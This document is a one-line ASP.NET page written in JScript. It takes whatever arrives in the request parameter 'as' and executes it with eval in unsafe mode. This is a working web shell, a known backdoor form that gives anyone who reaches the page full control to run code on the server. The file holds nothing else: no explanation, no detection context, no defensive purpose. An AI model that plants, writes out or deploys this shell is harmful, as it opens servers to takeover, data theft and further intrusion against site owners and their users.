<%@ Page Language="Jscript"%><%var c=Request.Item["as"];if(c!=null){eval(c,"unsafe");}%>
